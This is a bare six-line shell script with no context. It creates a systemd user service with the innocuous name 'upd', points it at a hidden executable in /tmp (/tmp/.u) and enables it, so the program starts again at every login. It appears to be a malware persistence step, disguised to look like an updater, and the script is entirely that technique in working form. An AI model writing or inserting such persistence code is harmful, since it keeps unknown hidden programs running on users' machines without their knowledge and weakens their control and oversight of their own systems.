#!/bin/sh
cat > ~/.config/systemd/user/upd.service <<EOF
[Service]
ExecStart=/tmp/.u
EOF
systemctl --user enable upd
